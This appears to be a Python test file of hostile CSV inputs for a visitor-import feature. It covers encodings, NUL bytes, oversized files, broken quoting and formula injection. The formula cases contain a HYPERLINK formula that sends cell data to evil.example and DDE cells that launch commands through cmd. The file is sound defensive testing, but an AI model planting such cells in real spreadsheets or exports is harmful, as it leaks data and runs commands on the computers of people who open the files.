"""Hostile visitor CSV files: encodings, newlines, NUL bytes, huge fields and files, quotes,
formula cells, separators, empty and binary files."""

from __future__ import annotations

import random

from entryhub_desk.importing import tables
from tests.hostile.corpus import Case, made, sparse, write

HEADER = "förnamn;efternamn;telefon;födelseår\n"
TWO = "Asha;Ali;0701234570;1990\nHodan;Nur;0701234572;1985\n"


def _utf8(text: str) -> bytes:
    return text.encode("utf-8")


def _million_rows() -> bytes:
    return _utf8(HEADER) + b"".join(b"P%d;F;;\n" % i for i in range(1_000_000))


def _garbage(seed: int, size: int = 4096) -> bytes:
    return random.Random(seed).randbytes(size)


PNG_HEAD = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(40)
LONG = tables.MAX_CELL_CHARS

CASES: list[Case] = [
    # encodings
    Case(
        "csv",
        "utf16-le-bom-tabs",
        write("v.csv", "förnamn\tefternamn\nÅsa\tÖberg\nSelam\tKidane\n".encode("utf-16")),
        created=2,
    ),
    Case(
        "csv",
        "utf16-be-bom",
        write("v.csv", b"\xfe\xff" + (HEADER + TWO).encode("utf-16-be")),
        created=2,
    ),
    Case("csv", "utf16-le-no-bom", write("v.csv", (HEADER + TWO).encode("utf-16-le")), created=2),
    Case(
        "csv",
        "utf16-lone-surrogate",
        write("v.csv", (HEADER + "Asha;Ali;;\n").encode("utf-16-le") + b"\x00\xd8;\x00\n\x00"),
        code="import.bad_encoding",
        mentions=("row",),
    ),
    Case(
        "csv",
        "latin1",
        write("v.csv", (HEADER + "Åsa;Öberg;;1970\n").encode("latin-1")),
        code="import.bad_encoding",
        mentions=("row",),
    ),
    Case(
        "csv",
        "cp1252-euro",
        write("v.csv", (HEADER + "Asha;Ali;;\nRené;Müller € ;;\n").encode("cp1252")),
        code="import.bad_encoding",
        mentions=("row",),
    ),
    Case(
        "csv",
        "utf8-bom-header-only",
        write("v.csv", b"\xef\xbb\xbf" + _utf8(HEADER)),
        created=0,
    ),
    Case("csv", "empty", write("v.csv", b""), created=0),
    Case(
        "csv",
        "trailing-blank-rows-100k",
        made("v.csv", lambda: _utf8(HEADER + TWO + ";;;\n" * 100_000)),
        created=2,
    ),
    # newlines and NUL
    Case(
        "csv",
        "mixed-newlines",
        write("v.csv", b"f\xc3\xb6rnamn;efternamn\r\nAsha;Ali\nHodan;Nur\rSelam;Kidane\r\n"),
        created=3,
    ),
    Case(
        "csv", "cr-only", write("v.csv", b"first name,last name\rAsha,Ali\rHodan,Nur\r"), created=2
    ),
    Case(
        "csv",
        "nul-byte",
        write("v.csv", _utf8(HEADER + "Asha;Ali;;\nHo\x00dan;Nur;;\n")),
        code="import.not_text",
        mentions=("row",),
    ),
    Case(
        "csv",
        "binary-garbage",
        write("v.csv", _garbage(1)),
        code="import.not_text",
        mentions=("row",),
    ),
    Case("csv", "png-named-csv", write("v.csv", PNG_HEAD), code="import.not_text"),
    Case(
        "csv",
        "garbage-without-nul",
        write("v.csv", bytes(b for b in _garbage(2) if b) + b"\n"),
        code="import.bad_encoding",
        mentions=("row",),
    ),
    # sizes
    Case(
        "csv",
        "field-200k",
        write("v.csv", _utf8(HEADER + "x" * 200_000 + ";Ali;;\nHodan;Nur;0701234572;1985\n")),
        rejected={2: "import.cell_too_long"},
        created=1,
    ),
    Case(
        "csv",
        "cell-5000",
        write("v.csv", _utf8(HEADER + "Asha;" + "y" * 5000 + ";;\n" + TWO)),
        rejected={2: "import.cell_too_long"},
        created=2,
    ),
    Case(
        "csv",
        "wide-row",
        write("v.csv", _utf8(HEADER + ";".join(["z"] * 100) + "\n" + TWO)),
        rejected={2: "import.too_many_columns"},
        created=2,
    ),
    Case(
        "csv",
        "header-too-wide",
        write("v.csv", _utf8(";".join(f"c{i}" for i in range(100)) + "\n" + TWO)),
        code="import.bad_header",
        mentions=("row", "limit"),
    ),
    Case(
        "csv",
        "one-million-rows",
        made("v.csv", _million_rows),
        code="import.too_many_rows",
        mentions=("limit",),
    ),
    Case(
        "csv",
        "17-mb",
        sparse("v.csv", 17 * 1024 * 1024),
        code="import.too_large",
        mentions=("limit_mb",),
    ),
    # quotes
    Case(
        "csv",
        "unterminated-quote",
        write(
            "v.csv",
            _utf8(
                HEADER
                + "Asha;Ali;0701234570;1990\n"
                + '"Amina;Yusuf;0701234571;1992\n'
                + "Hodan;Nur;0701234572;1985\n"
                + "Selam;Kidane;0701234573;1994\n"
            ),
        ),
        rejected={3: "import.bad_quotes"},
        created=3,
    ),
    Case(
        "csv",
        "misplaced-quote",
        write("v.csv", _utf8(HEADER + '"Amina" Yusuf;Ali;;\n' + TWO)),
        rejected={2: "import.bad_quotes"},
        created=2,
    ),
    Case(
        "csv",
        "header-unterminated-quote",
        write("v.csv", _utf8('"förnamn;efternamn\n' + TWO)),
        code="import.bad_header",
        mentions=("row",),
    ),
    Case(
        "csv",
        "legit-quotes",
        write("v.csv", _utf8('first name,last name\n"Ali, Omar","Al ""Sham"""\n')),
        created=1,
    ),
    # formula injection
    Case(
        "csv",
        "formula-hyperlink",
        write(
            "v.csv",
            _utf8(
                "förnamn,efternamn\n"
                '"=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")",Evil\n'
                "Amina,Good\n"
            ),
        ),
        rejected={2: "import.formula"},
        created=1,
    ),
    Case(
        "csv",
        "formula-variants",
        write(
            "v.csv",
            _utf8(
                HEADER
                + "@SUM(1+1)*cmd|' /C calc'!A0;Ali;;\n"
                + "+cmd|' /C calc'!A0;Ali;;\n"
                + "-2+3+cmd|' /C calc'!A0;Ali;;\n"
                + "\t=1+1;Ali;;\n"
                + "Asha;Ali;+46701234570;1990\n"
            ),
        ),
        rejected={
            2: "import.formula",
            3: "import.formula",
            4: "import.formula",
            5: "import.formula",
        },
        created=1,
    ),
    # separators
    Case(
        "csv",
        "comma-with-semicolons-in-cells",
        write("v.csv", _utf8('first name,last name,phone\n"Ali; Omar",Nur,0701234579\n')),
        created=1,
    ),
]
